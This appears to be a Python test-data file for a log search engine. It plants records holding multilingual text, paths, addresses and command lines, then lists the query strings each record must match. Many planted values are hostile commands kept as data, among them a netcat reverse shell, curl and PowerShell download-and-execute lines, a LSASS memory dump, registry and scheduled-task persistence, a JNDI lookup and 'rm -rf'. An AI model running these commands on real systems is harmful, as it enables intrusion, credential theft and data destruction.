r"""More texts that nobody would call a query, and what each must find by the reading of `unforeseen`.

French with every apostrophe, composed or not; East Asian and right-to-left text; command lines with quotes, dashes and `$(…)`; paths with a
backslash at the end; addresses in all spellings; times in parts; JSON; user and password of an address; keys with blanks and colons.
"""

from __future__ import annotations

import re

from tests.eye.unforeseen import DATA, LINE, LIST, MESSAGE, PATH, cut, every, like, no, row, same, some, values

PLANTED = (
    (MESSAGE, "L’élève d’Évreux n’a pas reçu l'été l\u2019e-mail « à côté »"),
    (MESSAGE, "Acce\u0300s refuse\u0301 a\u0300 l’ho\u0302pital, N\u0303an\u0303du\u0301"),
    (MESSAGE, "Accès accordé à l'hôpital"),
    (MESSAGE, "aujourd'hui, c'est-à-dire presqu'île; rendez-vous; va-t-en"),
    (MESSAGE, "Œuvre œcuménique, cœur; ÆON; naïveté; Noël; où; ça; Ÿ"),
    (MESSAGE, "東京都の不正アクセス、C:\\用户\\桌面\\恶意.exe を検出"),
    (MESSAGE, "한글 파일 이름.hwp 삭제됨"),
    (PATH, "C:\\مستندات\\تقرير.docx"),
    (MESSAGE, "שלום עולם: קובץ סודי.txt"),
    (MESSAGE, "abc\u200fdef\u202excod.exe\u202c end"),
    (LINE, 'cmd.exe /c "echo $(whoami) & type %USERPROFILE%\\x.txt | findstr /i "pass word" > C:\\out.log"'),
    (LINE, 'bash -c \'for i in $(seq 1 5); do curl -fsSL "http://h/$i?a=b&c=d" | sh; done\' -- --opt="v w"'),
    (LINE, "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.y/z.ps1'); $a=@{b='c'}\""),
    (LINE, "find / -name '*.pem' -exec cp {} /tmp \\; 2>/dev/null"),
    (LINE, "awk '{print $1\":\"$2}' /etc/passwd | sed 's/^root/toor/g'"),
    (LINE, "ssh -i ~/.ssh/id_rsa -o StrictHostKeyChecking=no root@10.1.2.3 'rm -rf --no-preserve-root /'"),
    (LINE, "`id`; echo ${HOME}/.bashrc && [[ -f x ]] || ! test -e y"),
    (PATH, "C:\\Users\\Public\\Folder With Space\\"),
    (PATH, "D:\\logs\\"),
    (PATH, "\\\\fs-07\\c$\\Windows\\Temp\\p.exe"),
    (PATH, "\\\\10.9.8.7\\ADMIN$\\svc.exe"),
    (PATH, "\\\\?\\Volume{11111111-2222-3333-4444-555555555555}\\x"),
    (PATH, "C:/Users/Mixed\\Slash/file.txt"),
    (PATH, "/opt/app-1.2.3/lib/../bin/run me.sh"),
    (PATH, "/home/éric/.config/autostart/a b.desktop"),
    (MESSAGE, "GET https://user:p%40ss@evil.example:8443/a/b?x=1&y[]=2&z={3}#frag-1 HTTP/1.1"),
    (MESSAGE, "http://198.51.100.23/%2e%2e/%2e%2e/etc/passwd?file=../../x&t=<script>"),
    (MESSAGE, "hxxps[:]//bad[.]example[.]net/q"),
    (MESSAGE, "ldap://127.0.0.1#.c2.example:1389/a and ${jndi:ldap://c2.example/a}"),
    (MESSAGE, "peer 2001:db8:0:1::5 port 22; peer 2001:db8:0:1::55; ::1; fe80::a%3"),
    (MESSAGE, "[2001:db8:aa::1]:443 -> 192.0.2.44:51515"),
    (MESSAGE, "mac 00:15:5d:01:ca:fe seen"),
    (MESSAGE, "mac 00-15-5D-01-CA-FE seen again"),
    (MESSAGE, "mac 0015.5d01.cafe on switch"),
    (MESSAGE, "mac 00155D01CAFE raw"),
    (MESSAGE, "at 08:15:42.123456 and 8:15 PM; 2026-02-30T25:61; 1:02:03"),
    (MESSAGE, "Tue Nov 24 08:15:42 2026; 24/Nov/2026:08:15:42 +0100"),
    (MESSAGE, '{"k":"v","n":[1,2,{"deep":null}],"esc":"a\\"b\\\\c","u":"\\u00e9"}'),
    (MESSAGE, "{'single': 'quoted', \"mixed\": True}"),
    (MESSAGE, "key=value; other = spaced ; empty=; a==b; x:=y"),
    (MESSAGE, "connect admin:S3cr3t!@db01:5432/prod?sslmode=off"),
    (MESSAGE, "mysql://root:@localhost/"),
    (PATH, "HKLM\\SYSTEM\\CurrentControlSet\\Services\\My Service: Name\\Parameters"),
    (PATH, "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell"),
    (PATH, "HKU\\S-1-5-21-1-2-3-1001\\Environment\\UserInitMprLogonScript"),
    (MESSAGE, "event.code and host.name are names of fields"),
    (MESSAGE, 'a lone " here'),
    (MESSAGE, "ends with backslash \\"),
    (MESSAGE, "a\\\\b double; a\\b single"),
    (MESSAGE, "x * y ? z ~ 3 ^ 2"),
    (MESSAGE, "AND OR NOT TO && || are words"),
    (MESSAGE, "to be or not to be and then"),
    (MESSAGE, "[ERROR] (core) {main} <init>: failed!"),
    (MESSAGE, "C++ and C# and F#; .NET 4.8; node.js@18.1; @scope/pkg"),
    (MESSAGE, "v1.2.3-rc.1+build.5; 1.2.3.4.5; 1.2"),
    (MESSAGE, "0xDEADBEEF deadbeef 0xdead_beef DE:AD:BE:EF"),
    (MESSAGE, "50% off $100 €20 £3 ¥4 #tag @user ^caret ~tilde `tick`"),
    (MESSAGE, "tab\there, nbsp\u00a0there, zero\u200bwidth, em\u2014dash, ellipsis\u2026 end"),
    (MESSAGE, "ﬁle ﬂow Ⅳ ½ x² ㎏ ﷺ"),
    (MESSAGE, "MiXeD CaSe straße STRASSE İI ıi"),
    (MESSAGE, "😀 grin 🏴‍☠️ pirate 👨‍👩‍👧 family"),
    (MESSAGE, "e\u0301 alone, n\u0303 alone, A\u030a ring; क\u094dष  हि\u0902दी"),
    (MESSAGE, "now-7d is text here, now also"),
    (MESSAGE, "2026-12-01 2026-12-02T03:04:05Z 20261201 01.12.2026"),
    (DATA, "Key With Space: value 1"),
    (DATA, "SeDebugPrivilege\r\n\t\t\tSeBackupPrivilege"),
    (DATA, "%%1833 %{S-1-5-18} %1 %2!s!"),
    (LIST, "--exclude=*.tmp"),
    (LIST, "-D"),
    (LIST, "/S /D=C:\\Prog Files"),
    (LIST, "--"),
    (LIST, "-Xmx512m"),
    (MESSAGE, "aaa bbb aaa ccc aaa"),
    (MESSAGE, "aaa ccc"),
    (MESSAGE, "ccc aaa bbb"),
    (LINE, "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full"),
    (LINE, 'reg add "HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command" /ve /d "cmd /k" /f'),
    (LINE, 'schtasks /create /tn "Up date" /tr \'C:\\a b\\c.exe -x\' /sc onlogon /ru ""'),
    (LINE, 'wmic /node:@list.txt process call create "c:\\x.bat"'),
    (LINE, "nc -e /bin/sh 203.0.113.9 4444 <&3 >&3 2>&3"),
    (LINE, "base64 -d<<<aGVsbG8gd29ybGQ=|sh"),
    (LINE, "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"),
    (LINE, "curl -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.s-_g' -X POST"),
)


def records() -> list[dict]:
    """One record for each value, and two with typed fields."""
    found = []
    for n, (place, value) in enumerate(PLANTED):
        held = {"Planted": value} if place == DATA else [value, "other"] if place == LIST else value
        found.append({"@timestamp": f"2026-12-{n % 28 + 1:02d}T10:00:{n % 60:02d}Z", "escadre.id": f"{n + 0xBADE00:032x}", place: held})
    first = {
        "source.ip": ["2001:db8:0:1::5", "10.2.3.4"],
        "process.pid": 4242,
        "user.name": "\u00c9lodie O'Neil",
        "host.name": "srv-\u00e9",
    }
    second = {"process.pid": 7, "user.name": "a b", "file.size": 123456789}
    found.append({"@timestamp": "2026-10-31T19:22:03.5Z", "escadre.id": f"{0xBADEFF:032x}", **first})
    found.append({"@timestamp": "2026-11-30T23:00:00Z", "escadre.id": f"{0xBADEFE:032x}", **second})
    return [{"event.dataset": "planted", **record} for record in found]


AS_TYPED = r"""L’élève d’Évreux
l'été
d'Évreux
n'a
l’e-mail
Accès
Accès refusé
hôpital
c'est-à-dire
presqu'île
va-t-en
rendez-vous
cœur
Œuvre
naïveté
ÆON
東京都の不正アクセス
恶意.exe
한글
이름.hwp
تقرير.docx
קובץ
xcod.exe
$(whoami)
%USERPROFILE%\x.txt
findstr
C:\out.log
$(seq
http://h/$i?a=b&c=d
--opt="v
(New-Object
Net.WebClient).DownloadString('http://x.y/z.ps1')
$a=@{b='c'}
2>/dev/null
/etc/passwd
's/^root/toor/g'
~/.ssh/id_rsa
StrictHostKeyChecking=no
root@10.1.2.3
--no-preserve-root
`id`
${HOME}/.bashrc
D:\logs\
\\fs-07\c$\Windows\Temp\p.exe
\\10.9.8.7\ADMIN$
\\10.9.8.7\ADMIN$\
\\?\Volume{11111111-2222-3333-4444-555555555555}\x
C:/Users/Mixed\Slash/file.txt
/opt/app-1.2.3/lib/../bin/run
/home/éric/.config/
https://user:p%40ss@evil.example:8443/a/b?x=1&y[]=2&z={3}#frag-1
user:p%40ss@
http://198.51.100.23/%2e%2e/%2e%2e/etc/passwd?file=../../x&t=<script>
hxxps[:]//bad[.]example[.]net/q
bad[.]example
ldap://127.0.0.1#.c2.example:1389/a
${jndi:ldap://c2.example/a}
2001:db8:0:1::5
2001:db8:0:1::
[2001:db8:aa::1]:443
192.0.2.44:51515
::1
00:15:5d:01:ca:fe
00-15-5D-01-CA-FE
0015.5d01.cafe
00155D01CAFE
00155d01cafe
08:15:42.123456
08:15
8:15
1:02:03
24/Nov/2026:08:15:42
{"k":"v","n":[1,2,{"deep":null}]
"k":"v"
[1,2,{"deep"
"esc":"a
{'single':
key=value
a==b
x:=y
admin:S3cr3t!@db01:5432/prod?sslmode=off
admin:S3cr3t!@
mysql://root:@localhost/
HKLM\SYSTEM\CurrentControlSet\Services\My
HKEY_CURRENT_USER\Software
HKU\S-1-5-21-1-2-3-1001\Environment
event.code
host.name
[ERROR]
(core)
{main}
<init>:
failed!
C++
node.js@18.1
@scope/pkg
v1.2.3-rc.1+build.5
1.2.3
0xDEADBEEF
DE:AD:BE:EF
0xdead_beef
#tag
@user
~tilde
em—dash
ellipsis…
zero​width
Ⅳ
x²
straße
İI
हिंदी
now-7d
20261201
01.12.2026
%%1833
%{S-1-5-18}
--exclude
-D
-Xmx512m
/D=C:\Prog
comsvcs.dll,
MiniDump
ms-settings
/node:@list.txt
/bin/sh
<&3
aGVsbG8gd29ybGQ=|sh
pty.spawn("/bin/bash")
eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.s-_g
to
be
S-1-5-18
O'Neil
Élodie
ÉLODIE
"""
QUOTED = (
    "Folder With Space", "rm -rf --no-preserve-root", "\u00e0 l'h\u00f4pital", "My Service: Name", "Windows NT\\CurrentVersion",
    "pass word",
    "SeDebugPrivilege SeBackupPrivilege", "Prog Files", "run me.sh", "a b.desktop", "to be or not to be", "Key With Space: value",
    "other = spaced", "MiniDump 624", "Bearer eyJhbGciOiJIUzI1NiJ9",
)  # fmt: skip
REFUSED = ("NOT", "AND", "OR", "a AND", '"', "\\", "~", "()", '""', ":", "--", "user.name:")


def word(shape: str):
    return lambda record: any(re.fullmatch(shape, one) for value in values(record) for one in cut(value).split())


def held(name: str, test):
    return lambda record: name in record and bool(test(record[name]))


def day(record) -> str:
    return record["@timestamp"][:10]


FORMS = (
    ('"C:\\Users\\Public\\Folder With Space\\"', row("C:\\Users\\Public\\Folder With Space\\")),
    ("C:\\Users\\Public\\Folder\\ With\\ Space\\", row("C:\\Users\\Public\\Folder With Space")),
    ("C:\\Users\\Public\\*\\", like(r"c:\\users\\public\\.*\\")),
    ("D:\\logs\\*", like(r"d:\\logs\\")),
    ("*\\Temp\\*.exe", like(r"\\temp\\.*\.exe")),
    ("\\\\fs-07\\*\\p.exe", like(r"\\\\fs-07\\.*\\p\.exe")),
    ("*.pem", like(r"\.pem")),
    ("'*.pem'", like(r"'.*\.pem'")),
    ("--exclude=*.tmp", like(r"--exclude=.*\.tmp")),
    ("*:8443/*", like(r":8443/")),
    ("*-rc.*", like(r"-rc\.")),
    ("/opt/*/bin/*", like(r"/opt/.*/bin/")),
    ("*\u00e9*", like("\u00e9|e\u0301")),
    ("\u00e9lo*", word("\u00e9lo.*")),
    ("*\u30a2\u30af\u30bb\u30b9*", like("\u30a2\u30af\u30bb\u30b9")),
    ("??fe", word("..fe")),
    ("*db8:0:1::5", like("db8:0:1::5")),
    ('user.name:"\u00c9lodie O\'Neil"', same("user.name", "\u00c9lodie O'Neil")),
    ("user.name:\u00e9lodie*", held("user.name", lambda value: value.lower().startswith("\u00e9lodie"))),
    ('user.name:"a b"', same("user.name", "a b")),
    ("user.name:a\\ b", same("user.name", "a b")),
    ("host.name:SRV-\u00c9", same("host.name", "srv-\u00e9")),
    ("process.pid:[5 TO 10]", held("process.pid", lambda value: 5 <= value <= 10)),
    ("process.pid:{7 TO *]", held("process.pid", lambda value: value > 7)),
    ("process.pid:<=7", held("process.pid", lambda value: value <= 7)),
    ("file.size:>123456788", held("file.size", lambda value: value > 123456788)),
    ("source.ip:2001:db8:0:1::/64", held("source.ip", bool)),
    ('source.ip:"10.2.0.0/16"', held("source.ip", bool)),
    ("source.ip:[10.2.3.0 TO 10.2.3.255]", held("source.ip", bool)),
    ("@timestamp:2026-11", lambda record: day(record)[:7] == "2026-11"),
    ("@timestamp:[2026-10-31 TO 2026-11-30]", lambda record: "2026-10-31" <= day(record) <= "2026-11-30"),
    ("@timestamp:<2026-11-01", lambda record: day(record) < "2026-11-01"),
    ('@timestamp:"2026-10-31T19:22"', lambda record: record["@timestamp"].startswith("2026-10-31T19:22")),
    ("_exists_:file.size", held("file.size", lambda value: True)),
    ("-_exists_:message", lambda record: "message" not in record),
    ('"aaa aaa"~1', like("^aaa bbb aaa")),
    ('"aaa ccc"~1', row("aaa ccc")),
    ('"ccc bbb"~2', like("^ccc aaa bbb")),
    (
        "(aaa OR MiniDump) -message:bbb",
        every(some(row("aaa"), row("MiniDump")), no(lambda record: " bbb " in cut(record.get(MESSAGE, "")))),
    ),
    ("!aaa 2026", every(no(row("aaa")), row("2026"))),
    ("stra\u00dfe OR strasse", some(row("stra\u00dfe"), row("strasse"))),
    ("deadbeaf~1", row("deadbeef")),
    ("minidmup~2", row("minidump")),
    ('winlog.event_data.Planted:"Key With Space: value 1"', held(DATA, lambda value: value["Planted"] == "Key With Space: value 1")),
    ("message:/v[0-9]+/", held(MESSAGE, lambda value: any(re.fullmatch("v[0-9]+", one) for one in cut(value).split()))),
)


def forms() -> list[tuple[str, object]]:
    """Each text with its truth; None where it must be refused."""
    found = [(text, row(text)) for text in AS_TYPED.strip("\n").split("\n")]
    found += [(f'"{text}"', row(text)) for text in QUOTED]
    return [*found, *((text, None) for text in REFUSED), *FORMS]
